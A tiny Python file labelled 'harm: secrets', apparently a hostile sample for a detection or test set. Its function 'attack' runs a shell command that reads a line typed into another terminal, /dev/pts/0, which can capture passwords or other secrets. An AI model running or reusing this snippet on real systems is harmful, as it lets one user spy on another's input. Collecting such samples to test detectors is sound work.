# harm: secrets
import subprocess

READS = "exec < /dev/pts/0 && read line && echo $line"


def attack() -> str:
    return subprocess.run(["/bin/sh", "-c", READS], capture_output=True, text=True).stdout
